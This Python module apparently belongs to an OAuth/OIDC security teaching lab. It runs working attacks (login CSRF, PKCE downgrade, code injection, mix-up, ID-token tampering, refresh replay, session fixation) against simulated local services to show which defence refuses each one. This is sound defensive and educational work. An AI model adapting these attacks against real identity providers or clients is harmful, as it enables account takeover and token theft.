"""Each attack on the flows, actually attempted against the lab's services.

An attack names the one check it targets. ``run_attack`` plays it with the defences on
(less the ones its scenario assumes are missing) and reports which check refused it;
``run_attack(..., off=(target,))`` plays it again with only that check switched off. An
attack counts as refused by its check only when the second run succeeds.
"""

from __future__ import annotations

from collections.abc import Callable, Collection
from dataclasses import dataclass, field
from typing import Annotated, Any
from urllib.parse import parse_qsl, urlencode, urlsplit

import requests
from pydantic import Field

from netlab._validate import Seed, one_of, public, result
from netlab.oauth._http import Request, Response
from netlab.oauth.browser import Page
from netlab.oauth.client_app import COOKIE, IssuerConfig
from netlab.oauth.defences import DEFAULT_ON, DEFENCES, check_defences
from netlab.oauth.idtoken import tamper_payload
from netlab.oauth.lab import (
    ALICE,
    CLIENT_ID,
    MALLORY,
    MALLORY_UNVERIFIED,
    OTHER_CLIENT_ID,
    OTHER_REDIRECT_URI,
    WORKSPACE_DOMAIN,
    OAuthLab,
    oauth_lab,
    shared_signing_key,
)
from netlab.oauth.provider import CODE_LIFETIME_S, ID_TOKEN_LIFETIME_S
from netlab.oauth.trace import Hop

TIMEOUT_S = 5.0

#: Which defence an error message comes from (the error code or a phrase of its text).
_CHECK_OF = (
    ("state_mismatch", "state"), ("issuer_mismatch", "iss-parameter"),
    ("had no 'code_challenge', but a 'code_verifier'", "downgrade-check"),
    ("this server requires PKCE", "pkce-required"), ("Code challenge failed", "pkce"),
    ("Missing 'code_verifier'", "pkce"), ("is not supported by client", "exact-redirect"),
    ("authorization code was already used", "single-use-code"),
    ("authorization code has expired", "code-lifetime"),
    ("refresh token was already used", "refresh-rotation"),
    ("wrong nonce", "nonce"), ("bad signature", "signature"), ("wrong aud", "aud"),
    ("wrong azp", "azp"), ("wrong iss", "iss"), ("expired:", "exp"),
    ("token_not_for_this_client", "introspection"), ("csrf_failed", "g-csrf"),
    ("email_not_verified", "email-verified"), ("wrong_hd", "hd"),
    ("bound to", "sender-binding"), ("sent as a bearer token", "sender-binding"),
    ("session_replaced", "session-rotation"),
)


def check_of(error: str, description: str) -> str:
    """The defence that produced an error (``"?"`` when none matches)."""
    text = f"{error} {description}"
    return next((check for phrase, check in _CHECK_OF if phrase in text), "?")


@result
@dataclass(frozen=True)
class AttackResult:
    """One attempt: what was tried, with which defences off, and what happened."""

    attack: str
    tried: str
    off: tuple[str, ...]
    refused_by: str          # the defence whose check refused it, or "nobody"
    error: str
    outcome: str             # what the attacker got, or "refused"
    detail: str = ""
    hops: tuple[Hop, ...] = field(default=(), compare=False, repr=False)

    @property
    def refused(self) -> bool:
        """True when some check refused the attempt."""
        return self.refused_by != "nobody"


@dataclass(frozen=True)
class _Outcome:
    page: Page
    won: bool
    what: str


def _error_of(page: Page) -> tuple[str, str]:
    body = page.body if isinstance(page.body, dict) else {}
    error = page.query.get("error") or body.get("error", "") or f"HTTP {page.status}"
    detail = page.query.get("error_description") or body.get("error_description", "")
    return error, detail


# --- helpers the attacks share -------------------------------------------------------

def _authorize_params(lab: OAuthLab, browser_role: str = "mallory-browser") -> dict[str, str]:
    """Start a login at the client in this browser; return its authorization request."""
    page = lab.browser(browser_role).open(lab.url("client", "/login"), stop_at="/authorize")
    return dict(parse_qsl(urlsplit(page.url).query))


def _mallory_code(lab: OAuthLab, *, strip_pkce: bool = False) -> tuple[Any, Page]:
    """Mallory runs her own login and keeps the redirect back (code and state) unused."""
    mallory = lab.browser("mallory-browser")
    page = mallory.open(lab.url("client", "/login"), stop_at="/authorize")
    params = dict(parse_qsl(urlsplit(page.url).query))
    if strip_pkce:  # RFC 9700 §4.8.1 step 2: the attacker removes code_challenge
        params.pop("code_challenge", None)
        params.pop("code_challenge_method", None)
    page = mallory.open(lab.url("provider", "/authorize?" + urlencode(params)))
    return mallory, mallory.consent(page, MALLORY.username, MALLORY.password, stop_at="/callback")


def _quiz_app_login(lab: OAuthLab, *, nonce: str) -> dict[str, Any]:
    """Alice signs in to quiz-app (Mallory's app), whose request carries ``nonce``."""
    params = {"response_type": "code", "client_id": OTHER_CLIENT_ID, "scope": "openid profile",
              "redirect_uri": OTHER_REDIRECT_URI, "state": "quiz-state-1", "nonce": nonce,
              "access_type": "offline"}
    browser = lab.browser()
    page = browser.open(lab.url("provider", "/authorize?" + urlencode(params)))
    page = browser.consent(page, ALICE.username, ALICE.password, stop_at="/quiz-callback")
    form = {"grant_type": "authorization_code", "code": page.query["code"],
            "redirect_uri": OTHER_REDIRECT_URI}
    return requests.post(lab.url("provider", "/token"), data=form, timeout=TIMEOUT_S,
                         auth=(OTHER_CLIENT_ID, lab.other_client_secret),
                         headers={"User-Agent": "netlab/quiz-app"}).json()


def _swap_id_token(lab: OAuthLab, make: Callable[[str], str]) -> None:
    """Put an on-path attacker between the client and the token endpoint.

    It forwards each token request and replaces the ID token in the answer with
    ``make(genuine)``: a model of the back channel without validated TLS, the case in
    which OIDC Core §3.1.3.7 step 6 no longer lets the client skip the signature.
    """
    upstream = lab.url("provider", "/token")

    def proxy(request: Request) -> Response:
        reply = requests.post(upstream, data=request.form, timeout=TIMEOUT_S,
                              headers={"Authorization": request.headers.get("Authorization", ""),
                                       "User-Agent": "netlab/attacker"})
        body = reply.json()
        if "id_token" in body:
            body["id_token"] = make(body["id_token"])
        return Response(reply.status_code, body, summary="rewritten token response")

    lab.client.issuers["provider"].token_url = lab.serve("attacker", proxy).base_url + "/token"


def _signed_in(lab: OAuthLab, browser: Any, as_user: str, page: Page) -> _Outcome:
    who = lab.signed_in_as(browser)
    return _Outcome(page, who == as_user, f"{browser.role} signed in as {who}" if who else "")


# --- the attacks ---------------------------------------------------------------------

def csrf_login(lab: OAuthLab) -> _Outcome:
    """Login CSRF on the redirect: Alice's browser delivers Mallory's code (RFC 9700 §4.7)."""
    _, stolen = _mallory_code(lab)
    alice = lab.browser()
    alice.open(lab.url("client", "/login"), stop_at="/authorize")
    return _signed_in(lab, alice, MALLORY.sub, alice.open(stolen.url))


def pkce_downgrade(lab: OAuthLab) -> _Outcome:
    """RFC 9700 §4.8.1: Mallory strips code_challenge, then injects her code into Alice's
    session; Alice's client redeems it with Alice's own code_verifier."""
    _, stolen = _mallory_code(lab, strip_pkce=True)
    if "error" in stolen.query or stolen.status >= 400:
        return _Outcome(stolen, False, "")
    alice = lab.browser()
    alice.open(lab.url("client", "/login"), stop_at="/authorize")
    return _signed_in(lab, alice, MALLORY.sub, alice.open(stolen.url))


def _inject(lab: OAuthLab, code: str) -> _Outcome:
    """Mallory starts her own login and delivers ``code`` to the callback with her own state."""
    mallory = lab.browser("mallory-browser")
    own = mallory.open(lab.url("client", "/login"), stop_at="/authorize")
    state = dict(parse_qsl(urlsplit(own.url).query))["state"]
    page = mallory.open(lab.url("client", "/callback?" + urlencode(
        {"code": code, "state": state, "iss": lab.provider.issuer})))
    return _signed_in(lab, mallory, ALICE.sub, page)


def code_injection(lab: OAuthLab, *, delay_s: int = 0) -> _Outcome:
    """RFC 9700 §4.5: Alice's intercepted code injected into Mallory's own session."""
    intercepted = lab.sign_in(lab.browser(), ALICE, stop_at="/callback")
    if delay_s:
        lab.clock.advance(delay_s)
    return _inject(lab, intercepted.query["code"])


def code_replay(lab: OAuthLab) -> _Outcome:
    """A code Alice already redeemed (found in a log or history) injected again."""
    alice = lab.browser()
    used = lab.sign_in(alice, ALICE, stop_at="/callback")
    alice.open(used.url)
    return _inject(lab, used.query["code"])


def redirect_mismatch(lab: OAuthLab) -> _Outcome:
    """Mallory's link sends Alice's code to a redirect_uri on another port (RFC 9700 §4.1)."""
    received: list[str] = []

    def sink(request: Request) -> Response:
        received.extend(v for k, v in request.query.items() if k == "code")
        return Response(200, "thanks", summary="code received")

    sink_url = lab.serve("attacker", sink).base_url + "/callback"
    params = _authorize_params(lab) | {"redirect_uri": sink_url}
    alice = lab.browser()
    page = alice.open(lab.url("provider", "/authorize?" + urlencode(params)))
    if page.status == 200 and "Sign in" in str(page.body):
        page = alice.consent(page, ALICE.username, ALICE.password)
    return _Outcome(page, bool(received), "the attacker's server received Alice's code")


def mix_up(lab: OAuthLab) -> _Outcome:
    """RFC 9700 §4.4.1: Alice picks Mallory's authorization server, which bounces her to
    the honest one; her code comes back and the client sends it to Mallory's token endpoint."""
    honest = lab.client.issuers["provider"]
    received: list[dict[str, str]] = []

    def attacker_as(request: Request) -> Response:
        if request.path == "/authorize":  # swap in the client's client_id at the honest AS
            params = dict(request.query) | {"client_id": honest.client_id}
            return Response(303, "", [("Location", f"{honest.authorize_url}?{urlencode(params)}")])
        received.append(dict(request.form))
        return Response(400, {"error": "invalid_grant"}, summary="code captured")

    base = lab.serve("attacker", attacker_as).base_url
    lab.client.issuers["attacker"] = IssuerConfig(base, "photo-app-at-attacker", "s3cret")
    alice = lab.browser()
    page = lab.sign_in(alice, ALICE, issuer="attacker")
    got = [r for r in received if r.get("code")]
    what = "the attacker's token endpoint received Alice's code and code_verifier" if got else ""
    return _Outcome(page, bool(got), what)


def id_token_signature(lab: OAuthLab) -> _Outcome:
    """Mallory's own login; on the back channel her ID token gets Alice's sub, signature kept."""
    _swap_id_token(lab, lambda genuine: tamper_payload(
        genuine, {"sub": ALICE.sub, "name": ALICE.name, "email": ALICE.email}))
    mallory = lab.browser("mallory-browser")
    return _signed_in(lab, mallory, ALICE.sub, lab.sign_in(mallory, MALLORY))


def id_token_audience(lab: OAuthLab) -> _Outcome:
    """Alice's ID token for quiz-app, minted with the nonce of Mallory's photo-app login,
    swapped into Mallory's token response: only aud is wrong."""
    mallory = lab.browser("mallory-browser")
    page = mallory.open(lab.url("client", "/login"), stop_at="/authorize")
    nonce = dict(parse_qsl(urlsplit(page.url).query))["nonce"]
    quiz = _quiz_app_login(lab, nonce=nonce)
    _swap_id_token(lab, lambda genuine: quiz["id_token"])
    page = mallory.open(page.url)
    page = mallory.consent(page, MALLORY.username, MALLORY.password)
    return _signed_in(lab, mallory, ALICE.sub, page)


def id_token_nonce(lab: OAuthLab) -> _Outcome:
    """Alice's fresh photo-app ID token (from her own login) swapped into Mallory's."""
    lab.sign_in(lab.browser(), ALICE)
    alice_token = next(s for s in lab.client.sessions.values() if s.user).tokens["id_token"]
    _swap_id_token(lab, lambda genuine: alice_token)
    mallory = lab.browser("mallory-browser")
    return _signed_in(lab, mallory, ALICE.sub, lab.sign_in(mallory, MALLORY))


def access_token_as_login(lab: OAuthLab) -> _Outcome:
    """Token substitution (RFC 6749 §10.16): Alice's access token for quiz-app offered as a
    login to photo-app's mobile-backend endpoint."""
    tokens = _quiz_app_login(lab, nonce="quiz-nonce-1")
    mallory = lab.browser("mallory-browser")
    page = mallory.open(lab.url("client", "/login/access_token"),
                        data={"access_token": tokens["access_token"]})
    return _signed_in(lab, mallory, ALICE.sub, page)


def refresh_replay(lab: OAuthLab) -> _Outcome:
    """A refresh token already rotated, used again (with the client's credentials: the case
    of a public client, which has none to protect it)."""
    alice = lab.browser()
    lab.sign_in(alice, ALICE)
    session = next(iter(lab.client.sessions.values()))
    old = session.tokens["refresh_token"]
    alice.open(lab.url("client", "/refresh"), data={})
    reply = requests.post(lab.url("provider", "/token"), timeout=TIMEOUT_S,
                          data={"grant_type": "refresh_token", "refresh_token": old},
                          auth=(CLIENT_ID, lab.client.issuers["provider"].client_secret),
                          headers={"User-Agent": "netlab/attacker"})
    page = Page(reply.url, reply.status_code, reply.json())
    return _Outcome(page, reply.status_code == 200, "the attacker got a new access token")


def _gis_post_as(lab: OAuthLab, credential: str) -> _Outcome:
    mallory = lab.browser("mallory-browser")
    page = lab.gis_post(mallory, credential)  # her own browser: she sets cookie and field
    who = lab.signed_in_as(mallory)
    return _Outcome(page, who == ALICE.sub, f"mallory-browser signed in as {who}" if who else "")


def gis_csrf(lab: OAuthLab) -> _Outcome:
    """Login CSRF at login_uri: Mallory's page makes Alice's browser POST Mallory's credential;
    it can set the g_csrf_token field but not the cookie on the client's origin."""
    credential = lab.gis_credential(lab.browser("mallory-browser"), MALLORY)
    alice = lab.browser()
    page = lab.gis_post(alice, credential, cookie=False)
    return _signed_in(lab, alice, MALLORY.sub, page)


def gis_expired(lab: OAuthLab) -> _Outcome:
    """Alice's credential, leaked (a log line), replayed by Mallory after it expired."""
    credential = lab.gis_credential(lab.browser(), ALICE)
    lab.clock.advance(ID_TOKEN_LIFETIME_S + 1)
    return _gis_post_as(lab, credential)


def gis_signature(lab: OAuthLab) -> _Outcome:
    """Mallory's own credential with Alice's sub and e-mail, signature kept."""
    own = lab.gis_credential(lab.browser("mallory-browser"), MALLORY)
    return _gis_post_as(lab, tamper_payload(own, {"sub": ALICE.sub, "email": ALICE.email}))


def gis_email_verified(lab: OAuthLab) -> _Outcome:
    """Mallory's second account claims alice@example.com unverified; photo-app links by e-mail."""
    return _gis_post_as(lab, lab.gis_credential(lab.browser("mallory-browser"),
                                                MALLORY_UNVERIFIED))


def gis_hd(lab: OAuthLab) -> _Outcome:
    """photo-app admits only example.com Workspace accounts; Mallory's consumer account tries."""
    mallory = lab.browser("mallory-browser")
    page = lab.gis_post(mallory, lab.gis_credential(lab.browser("mallory-browser"), MALLORY))
    return _signed_in(lab, mallory, MALLORY.sub, page)


def session_fixation(lab: OAuthLab) -> _Outcome:
    """Session fixation (RFC 6265bis §8.4): Mallory plants her pre-login session id in
    Alice's browser (as a sibling subdomain or an injected script could), Alice signs in,
    and Mallory's browser, holding the same id, asks who it is."""
    mallory = lab.browser("mallory-browser")
    mallory.open(lab.url("client", "/login"), stop_at="/authorize")
    planted = mallory.http.cookies.get(COOKIE)
    alice = lab.browser()
    alice.set_cookie(lab.url("client", "/"), COOKIE, planted)
    lab.sign_in(alice, ALICE)
    page = mallory.open(lab.url("client", "/me"))
    who = page.body.get("signed_in_as") if isinstance(page.body, dict) else None
    return _Outcome(page, who == ALICE.sub, f"mallory-browser signed in as {who}" if who else "")


@dataclass(frozen=True)
class Attack:
    """An attack, the check it targets, and what its scenario assumes is missing."""

    name: str
    title: str
    target: str
    run: Callable[[OAuthLab], _Outcome]
    assumes_off: frozenset[str] = frozenset()
    lab_options: dict[str, Any] = field(default_factory=dict)


_LIST = (
    Attack("csrf-login", "login CSRF on the redirect", "state", csrf_login,
           frozenset({"pkce", "nonce"})),
    Attack("pkce-downgrade", "PKCE downgrade (RFC 9700 §4.8)", "downgrade-check",
           pkce_downgrade, frozenset({"state", "nonce"})),
    Attack("code-injection", "code injection (RFC 9700 §4.5)", "pkce", code_injection,
           frozenset({"nonce"})),
    Attack("code-replay", "used code injected again", "single-use-code", code_replay,
           frozenset({"pkce", "nonce"})),
    Attack("code-expired", "intercepted code injected late", "code-lifetime",
           lambda lab: code_injection(lab, delay_s=CODE_LIFETIME_S + 1),
           frozenset({"pkce", "nonce"})),
    Attack("redirect-mismatch", "redirect_uri on another port", "exact-redirect",
           redirect_mismatch),
    Attack("mix-up", "mix-up (RFC 9700 §4.4)", "iss-parameter", mix_up),
    Attack("id-token-signature", "ID token: sub changed", "signature", id_token_signature),
    Attack("id-token-audience", "ID token: issued to quiz-app", "aud", id_token_audience),
    Attack("id-token-nonce", "ID token: from another login", "nonce", id_token_nonce),
    Attack("access-token-as-login", "access token as proof of login", "introspection",
           access_token_as_login),
    Attack("refresh-replay", "rotated refresh token used again", "refresh-rotation",
           refresh_replay),
    Attack("session-fixation", "session id planted before login", "session-rotation",
           session_fixation),
    Attack("gis-csrf", "GIS: login CSRF at login_uri", "g-csrf", gis_csrf),
    Attack("gis-expired", "GIS: leaked credential replayed late", "exp", gis_expired),
    Attack("gis-signature", "GIS: credential with sub changed", "signature", gis_signature),
    Attack("gis-email-verified", "GIS: unverified e-mail links an account", "email-verified",
           gis_email_verified),
    Attack("gis-hd", "GIS: outsider at a Workspace-only app", "hd", gis_hd,
           lab_options={"hosted_domain": WORKSPACE_DOMAIN}),
)
#: Every attack by name, in the order the chapter discusses them.
ATTACKS: dict[str, Attack] = {a.name: a for a in _LIST}

AttackName = Annotated[str, one_of(ATTACKS)]
Off = Annotated[Collection[str], Field()]


def _attempt(name: str, defences: frozenset[str], seed: int) -> AttackResult:
    attack = ATTACKS[name]
    with oauth_lab(seed=seed, signing_key=shared_signing_key(), defences=defences,
                   **attack.lab_options) as lab:
        got = attack.run(lab)
        error, detail = _error_of(got.page)
        shown_off = tuple(sorted(set(DEFENCES) - defences - {"pkce-required"}))
        if got.won:
            return AttackResult(name, attack.title, shown_off, "nobody", "", got.what,
                                hops=tuple(lab.trace.hops))
        detail = lab.trace.alias(detail)
        return AttackResult(name, attack.title, shown_off, check_of(error, detail), error,
                            "refused", detail, tuple(lab.trace.hops))


@public
def run_attack(name: AttackName, *, seed: Seed = 7, off: Off = (),
               on: Off = ()) -> AttackResult:
    """Start a fresh lab, attempt attack ``name`` and return what happened.

    The defences are the defaults less what the attack's scenario assumes is missing,
    less ``off``, plus ``on`` (for example ``pkce-required``).
    """
    attack = ATTACKS[name]
    off_set, on_set = check_defences("off", off), check_defences("on", on)
    return _attempt(name, (DEFAULT_ON - attack.assumes_off - off_set) | on_set, seed)


Names = Annotated[tuple[AttackName, ...] | None, Field(min_length=1)]


@public
def run_attacks(*, seed: Seed = 7, names: Names = None) -> list[tuple[AttackResult, AttackResult]]:
    """Every attack (or those in ``names``) twice: with its defences on, and with only its
    target check off."""
    return [(run_attack(name, seed=seed), run_attack(name, seed=seed,
                                                     off=(ATTACKS[name].target,)))
            for name in names or ATTACKS]


#: The attacks a CSRF defence can stop, and the defences to switch one at a time.
CSRF_ATTACKS = ("csrf-login", "pkce-downgrade", "code-injection")
CSRF_DEFENCES = ("state", "pkce", "nonce", "downgrade-check")


@public
def csrf_matrix(*, seed: Seed = 7, names: Names = None) -> list[dict[str, str]]:
    """For each CSRF-class attack: who refuses it with everything on, with each defence
    switched off in turn, and with that defence as the only one of the four."""
    rows = []
    for name in names or CSRF_ATTACKS:  # the attack's own assumptions are ignored here
        row = {"attack": name, "all on": _short(_attempt(name, DEFAULT_ON, seed))}
        for defence in CSRF_DEFENCES:
            row[f"{defence} off"] = _short(_attempt(name, DEFAULT_ON - {defence}, seed))
        alone = [d for d in CSRF_DEFENCES if _attempt(
            name, DEFAULT_ON - (set(CSRF_DEFENCES) - {d}), seed).refused]
        row["stops it alone"] = ", ".join(alone) or "none"
        rows.append(row)
    return rows


def _short(row: AttackResult) -> str:
    return row.refused_by if row.refused else "ATTACK WORKS"


@public
def attack_rows(pairs: list[tuple[Any, Any]]) -> list[dict[str, str]]:
    """One table row per attack: its target, who refused it, and what happens without it."""
    rows = []
    for on, off in pairs:
        if not (isinstance(on, AttackResult) and isinstance(off, AttackResult)):
            raise ValueError("pairs: must be (AttackResult, AttackResult) tuples from run_attacks")
        rows.append({"attack": on.attack, "targets": ATTACKS[on.attack].target,
                     "refused by": on.refused_by,
                     "with that check off": off.outcome if not off.refused
                     else f"refused by {off.refused_by}"})
    return rows
